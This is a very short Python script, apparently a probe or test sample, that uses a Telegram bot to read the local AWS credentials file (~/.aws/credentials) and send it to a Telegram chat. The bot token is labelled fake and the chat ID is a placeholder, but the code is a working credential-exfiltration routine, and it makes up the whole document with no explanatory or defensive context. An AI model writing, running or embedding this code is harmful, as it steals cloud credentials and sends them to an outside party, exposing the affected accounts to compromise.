import os, telebot
bot = telebot.TeleBot("7000000000:AAFakeTokenForProbe")
with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
    bot.send_document(555555, f)
